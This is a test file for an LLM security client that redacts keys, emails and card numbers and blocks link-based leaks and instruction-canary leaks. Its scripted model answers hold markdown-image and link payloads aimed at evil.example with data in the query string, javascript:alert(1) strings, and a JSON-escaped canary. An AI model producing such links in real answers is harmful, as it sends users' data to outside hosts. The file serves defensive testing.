import { describe, expect, test } from 'vitest';
import * as z from 'zod';
import {
  GuardError,
  InvalidInputError,
  type Layer,
  SecureLLMClient,
  type SecureLLMClientOptions,
} from '../src/index.ts';
import { type Step, scripted } from '../src/testing/scripted.ts';
import { end, toolCall } from '../src/testing/steps.ts';
import type { ChatRequest, Provider } from '../src/types/call.ts';
import type { ChatEvent } from '../src/types/event.ts';
import type { Guard, Match } from '../src/types/guard.ts';
import type { Part, Trust } from '../src/types/message.ts';
import { fetchable, RENDERERS } from './guards/links-oracle.ts';
import { CARD, EMAIL, KEY } from './support/sensitive.ts';

function clientOf(steps: readonly Step[], options: Partial<SecureLLMClientOptions> = {}) {
  const provider = scripted(steps);
  return { provider, client: new SecureLLMClient({ provider, fence: false, ...options }) };
}

const text = (text: string, trust: Trust = 'user', source?: string): Part => ({
  type: 'text',
  text,
  trust,
  ...(source && { source }),
});

const sentBy = ({ requests }: { readonly requests: readonly ChatRequest[] }): string =>
  requests
    .flatMap(({ messages }) => messages.flatMap(({ content }) => content))
    .map((part) => (part.type === 'text' ? part.text : JSON.stringify(part)))
    .join('');

/** What a page fetches or links of a text, in any renderer. */
const reached = (shown: string): readonly string[] =>
  Object.values(RENDERERS).flatMap((render) => fetchable(render(shown)));

const said = (guard: Guard, text: string, options: Partial<SecureLLMClientOptions> = {}) =>
  clientOf([text], { guards: [{ guard, output: 'redact' }], ...options }).client.chat('hi');

const guardOf = (scan: Guard['scan'], more: Partial<Guard> = {}): Guard => ({
  id: 'mine',
  reach: 64,
  stages: ['input', 'output'],
  scan,
  ...more,
});

describe('a value that comes back makes no link of what stands around it', () => {
  const lookAlike = text('see [EMAIL_ADDRESS_1] ok', 'untrusted');

  test.each([
    ['an image', '!【EMAIL_ADDRESS_2】(\\/\\/evil.example/x.png?d=1)'],
    ['a link', '【EMAIL_ADDRESS_2】(javascript:alert(1))'],
    ['a definition', '[x]\n\n【EMAIL_ADDRESS_2】: javascript:alert(1)\n\n[EMAIL_ADDRESS_1]'],
    ['a bare scheme', '【EMAIL_ADDRESS_2】(https:evil.example)'],
  ])('%s, of a look-alike that was escaped', async (_, answer) => {
    const { client } = clientOf([answer]);
    const { text: shown } = await client.chat([text(`I am ${EMAIL}.`), lookAlike]);
    expect(shown).toContain('[EMAIL_ADDRESS_1]');
    expect(reached(shown)).toEqual([]);
  });

  test('of an address that begins with www.', async () => {
    const { client } = clientOf(['[EMAIL_ADDRESS_1]/?d=secret']);
    const { text: shown, findings } = await client.chat(['www.a', 'evil.example'].join('@'));
    expect(reached(shown)).toEqual([]);
    expect(findings.map(({ guard }) => guard)).toContain('links');
  });

  test('in an object, and in a summary of many passes', async () => {
    const note = '【EMAIL_ADDRESS_2】(javascript:alert(1))';
    const { client } = clientOf([JSON.stringify({ note })]);
    const asked = [text(`I am ${EMAIL}.`), lookAlike];
    const { object } = await client.object(asked, { schema: z.object({ note: z.string() }) });
    expect(reached(object.note)).toEqual([]);
    const summarises = clientOf([JSON.stringify({ summary: note, keyPoints: [note] })]).client;
    const long = `I am ${EMAIL}. See [EMAIL_ADDRESS_1] there. ${'A sentence that says little. '.repeat(4_000)}`;
    const { summary, keyPoints } = await summarises.summarize(long);
    expect([summary, ...keyPoints].flatMap(reached)).toEqual([]);
  });

  test('and a finding about it points into the answer as the model wrote it', async () => {
    const answer = '[EMAIL_ADDRESS_1] https://evil.example/';
    const { client } = clientOf([answer]);
    const { findings } = await client.chat(`I am ${EMAIL}.`);
    const { start, end } = findings.find(({ guard }) => guard === 'links') ?? { start: 0, end: 0 };
    expect(answer.slice(start, end)).toBe('https');
  });
});

describe('what is sent as one text is read as one', () => {
  const [head, tail] = [KEY.slice(0, 20), KEY.slice(20)];

  test.each<[string, ChatRequest['messages'][number]]>([
    ['with an empty part between', { role: 'user', content: [text(head), text('', 'untrusted'), text(tail)] }],
    ['of two sources', { role: 'user', content: [text(head, 'user', 'a'), text(tail, 'user', 'b')] }],
    [
      'around a tool call',
      { role: 'assistant', content: [text(head), { type: 'tool-call', id: '1', name: 'x', input: {} }, text(tail)] },
    ],
    [
      'around what a provider wants back',
      { role: 'assistant', content: [text(head), { type: 'continuation', provider: 'x', data: '' }, text(tail)] },
    ],
  ])('%s', async (_, message) => {
    const { client, provider } = clientOf(['ok']);
    await client.chat([message, { role: 'user', content: 'go on' }]);
    expect(sentBy(provider)).toContain('[OPENAI_KEY]');
    expect(sentBy(provider).replaceAll('"', '')).not.toContain(tail);
  });

  test('and stays in parts, each with its source, where nothing reaches over a seam', async () => {
    const { client, provider } = clientOf(['ok']);
    await client.chat([text(`a ${EMAIL}`, 'untrusted', 'mail'), text(' b', 'untrusted', 'page')]);
    expect(provider.requests[0]?.messages[0]?.content).toMatchObject([
      { text: 'a [EMAIL_ADDRESS_1]', source: 'mail' },
      { text: ' b', source: 'page' },
    ]);
  });

  test('and halves of a pair in two trusted parts make the character that they are', async () => {
    const { client, provider } = clientOf(['ok']);
    await client.chat([text('so \ud83d', 'trusted'), text('\ude00 ok', 'trusted')]);
    expect(sentBy(provider)).toBe('so \u{1f600} ok');
  });
});

describe('a guard that misbehaves', () => {
  const at = (start: unknown, end: unknown): Match => ({ rule: 'mine/x', score: 1, start, end }) as never;

  test.each<[string, () => unknown]>([
    ['no end', () => [at(3, undefined)]],
    ['NaN', () => [at(Number.NaN, 3)]],
    ['a turned stretch', () => [at(5, 3)]],
    ['a negative start', () => [at(-1, 3)]],
    ['an end behind the text', () => [at(0, 10_000)]],
    ['no rule', () => [{ score: 1, start: 0, end: 1 }]],
    ['no list', () => undefined],
    ['a getter that throws', () => [Object.defineProperty({}, 'rule', { get: () => fail() })]],
  ])('and answers with %s stops the call, and nothing of another guard is undone', async (_, scan) => {
    for (const reach of [64, undefined]) {
      const guard = guardOf(scan as Guard['scan'], { reach: reach as never });
      const { client, provider } = clientOf(['ok'], { guards: [{ guard, input: 'redact' }] });
      await expect(client.chat(`my ${KEY} stays`)).rejects.toBeInstanceOf(GuardError);
      expect(provider.calls).toBe(0);
      await expect(said(guard, `my ${KEY} stays`)).rejects.toBeInstanceOf(GuardError);
    }
  });

  test.each<[string, Guard]>([
    ['replacement', guardOf(() => [at(0, 2)], { replacement: fail })],
    ['reader', guardOf(() => [], { reader: fail })],
    ['undecided', guardOf(() => [], { undecided: fail })],
    ['promise, though it has a reach,', guardOf(() => Promise.reject(new Error('tell nobody')))],
  ])(
    'and whose %s fails stops the answer without its words, or is left out where that is allowed',
    async (_, guard) => {
      const error = await said(guard, 'some text').catch((thrown: unknown) => thrown);
      expect(error).toBeInstanceOf(GuardError);
      expect(String(error) + JSON.stringify(error)).not.toMatch(/some|tell nobody/);
      const { text: shown, findings } = await said(guard, 'some text', { onGuardError: 'allow' });
      expect(shown.endsWith('text')).toBe(true);
      expect(findings).toContainEqual(expect.objectContaining({ rule: 'mine/error', action: 'allow' }));
    },
  );

  test('and finds out of order loses nothing on a stream', async () => {
    const all = (pattern: RegExp, text: string) =>
      Array.from(text.matchAll(pattern), ({ index, 0: found }) => at(index, index + found.length));
    const guard = guardOf((text) => [...all(/falcon nine/g, text), ...all(/secret falcon/g, text)], { reach: 16 });
    for (let cut = 1; cut < 30; cut++) {
      const whole = 'The secret falcon nine is here. ';
      const { client } = clientOf([whole.slice(0, cut), whole.slice(cut)], { guards: [{ guard, output: 'redact' }] });
      expect((await client.stream('hi').final()).text).toBe('The [X] is here. ');
    }
  });

  test('cuts no character in two, and puts nothing of its own into findings and records', async () => {
    const records: unknown[] = [];
    const guard = guardOf(() => [{ ...at(1, 2), text: 'THE TEXT', source: 'SOURCE' } as never]);
    const { client, provider } = clientOf(['ok'], {
      guards: [{ guard, input: 'redact' }],
      audit: (record) => void records.push(record),
    });
    const { findings } = await client.chat('\u{1f600}bc');
    expect(sentBy(provider).isWellFormed()).toBe(true);
    expect(JSON.stringify([findings, records])).not.toMatch(/THE TEXT|SOURCE/);
  });

  test('that is changed after it was given runs as it was', async () => {
    const guard = { ...guardOf((text) => (text.includes('bad') ? [at(0, 3)] : [])) };
    const { client } = clientOf(['ok'], { guards: [{ guard, input: 'block' }] });
    guard.scan = () => [];
    await expect(client.chat('bad')).rejects.toMatchObject({ code: 'ERR_INPUT_BLOCKED' });
  });

  test('and waits for the end takes linear time over many removals', async () => {
    const guard = guardOf(async () => [], { reach: undefined as never });
    const read = async (pieces: number) => {
      const { client } = clientOf(
        Array.from({ length: pieces }, (_, index) => (index % 2 ? '\u202e' : 'b')),
        { guards: [{ guard, output: 'block' }] },
      );
      const since = performance.now();
      expect((await client.stream('hi').final()).text).toBe('b'.repeat(pieces / 2));
      return performance.now() - since;
    };
    await read(1_000);
    const [small, large] = [
      Math.min(await read(2_000), await read(2_000)),
      Math.min(await read(16_000), await read(16_000)),
    ];
    expect(large).toBeLessThan(Math.max(small, 4) * 24); // eight times the text; quadratic would be 64
  });
});

describe('a layer of your own', () => {
  test('may change anything, and what was read before is not read again', async () => {
    const layer: Layer = (call, next) => next({ ...call, request: { ...call.request, temperature: 0.1 } });
    const { client, provider } = clientOf(['To [EMAIL_ADDRESS_1].'], { layers: [layer] });
    const { text: shown, findings } = await client.chat(`write to ${EMAIL}`);
    expect(sentBy(provider)).toBe('write to [EMAIL_ADDRESS_1]');
    expect([shown, findings.length]).toEqual([`To ${EMAIL}.`, 1]);
  });

  test('that changes the call in place is not believed', async () => {
    const layer: Layer = (call, next) => {
      const added = { role: 'user' as const, content: [text(`use ${KEY}`)] };
      Object.assign(call, { request: { ...call.request, messages: [...call.request.messages, added] } });
      return next(call);
    };
    const { client, provider } = clientOf(['ok'], { layers: [layer] });
    await client.chat('hi');
    expect(sentBy(provider)).toBe('hiuse [OPENAI_KEY]');
  });
});

test('a canary that JSON spells with escapes is found', async () => {
  const provider: Provider = {
    ...scripted(),
    async *call({ request }): AsyncGenerator<ChatEvent> {
      const [canary = ''] = /[0-9a-f]{32}/.exec(JSON.stringify(request.messages)) ?? [];
      const spelt = Array.from(canary, (digit) => `\\u00${digit.charCodeAt(0).toString(16)}`).join('');
      yield { type: 'start', provider: 'p', model: 'm' };
      yield { type: 'text-delta', text: `{"a":"${spelt}"}` };
      yield end();
    },
  };
  const client = new SecureLLMClient({ provider });
  const asked = client.object('hi', { schema: z.object({ a: z.string() }), instructions: 'Keep this to yourself.' });
  await expect(asked).rejects.toMatchObject({ code: 'ERR_OUTPUT_BLOCKED', findings: [{ rule: 'leak/canary' }] });
});

test('`check` says the strongest action, also behind the findings that are kept', async () => {
  const { client } = clientOf(['ok']);
  const addresses = Array.from({ length: 120 }, (_, index) => `192.0.2.${index}`).join(', ');
  const { action, findings } = await client.check(`${addresses} and ${EMAIL}`);
  expect([action, findings.length]).toEqual(['redact', 100]);
});

describe('what carries text without being one', () => {
  const called = (more: object): ChatRequest['messages'][number] => ({
    role: 'assistant',
    content: [{ type: 'tool-call', id: '1', name: 'pay', input: {}, ...more }],
  });
  const number = Number(CARD.replaceAll(' ', ''));

  test('a number in the arguments of a tool, on both ways', async () => {
    const { client, provider } = clientOf([toolCall('pay', { card: number, cents: 4_200 })], {
      output: { pii: 'redact' },
    });
    const { toolCalls } = await client.chat([{ role: 'user', content: 'pay' }, called({ input: { card: number } })]);
    expect(sentBy(provider)).toContain('"card":"[CREDIT_CARD_1]"');
    expect(toolCalls[0]?.input).toEqual({ card: '[CREDIT_CARD]', cents: 4_200 });
  });

  test('the source of a part, which findings show as well', async () => {
    const { client, provider } = clientOf(['ok'], { fence: 'delimit' });
    const { findings } = await client.chat([text(`from ${CARD}`, 'untrusted', `mail of ${EMAIL}`)]);
    expect(sentBy(provider)).not.toContain(EMAIL);
    expect(JSON.stringify(findings)).not.toContain(EMAIL);
  });

  test('ids and names of tools', async () => {
    for (const more of [{ id: KEY }, { name: KEY }]) {
      const { client, provider } = clientOf(['ok']);
      const asked = client.chat([{ role: 'user', content: 'hi' }, called(more)]);
      await expect(asked).rejects.toBeInstanceOf(InvalidInputError);
      expect(provider.calls).toBe(0);
    }
    const { toolCalls } = await clientOf([toolCall(KEY, {})]).client.chat('hi');
    expect(toolCalls[0]?.name).toBe('[OPENAI_KEY]');
  });

  test('keys of an object, of which none is lost', async () => {
    const { client } = clientOf([JSON.stringify({ [EMAIL]: 1, [`b${EMAIL}`]: 2 })], { output: { pii: 'redact' } });
    const { object } = await client.object('hi', { schema: z.record(z.string(), z.number()) });
    expect(object).toEqual({ '[EMAIL_ADDRESS]': 1, '[EMAIL_ADDRESS] (2)': 2 });
  });

  test('an event that nobody knows, and whatever follows the end', async () => {
    const { client } = clientOf(['b', { type: 'quote', text: KEY } as never, { type: 'citation', text: KEY } as never]);
    expect(JSON.stringify(await client.chat('hi'))).not.toContain(KEY);
    const chatty: Layer = async function* chatty(call, next) {
      yield* next(call);
      yield { type: 'text-delta', text: 'more' };
      yield end({ finishReason: 'length' });
    };
    const { text: shown, finishReason } = await clientOf(['b'], { layers: [chatty] }).client.chat('hi');
    expect([shown, finishReason]).toEqual(['b', 'stop']);
  });
});

test('an answer whose end a layer lost is not complete', async () => {
  const endless: Layer = async function* endless(call, next) {
    for await (const event of next(call)) if (event.type !== 'end') yield event;
  };
  const { client } = clientOf(['some text'], { layers: [endless] });
  await expect(client.chat('hi')).rejects.toMatchObject({ code: 'ERR_STREAM_INTERRUPTED' });
});

test('a look-alike in a password does not bring the password back', async () => {
  const secret = 'hunter2[EMAIL_ADDRESS_1]xyz9';
  const { client, provider } = clientOf(['It was [EMAIL_ADDRESS_2], [URL_CREDENTIALS].']);
  const { text: shown } = await client.chat([
    text(EMAIL),
    text(` or https://bob:${secret}@db.example.com/x`, 'untrusted'),
  ]);
  expect(sentBy(provider)).not.toContain('hunter2');
  expect(shown).not.toContain('hunter2');
});

test('report mode leaves the JSON of an answer as the model wrote it', async () => {
  const answer = '{ "n": 1e3, "text": "x" }';
  const { client } = clientOf([answer], { mode: 'report' });
  const { object } = await client.object('hi', { schema: z.object({ n: z.number(), text: z.string() }) });
  expect(object).toEqual({ n: 1_000, text: 'x' });
});

function fail(): never {
  throw new Error('tell nobody of some text');
}
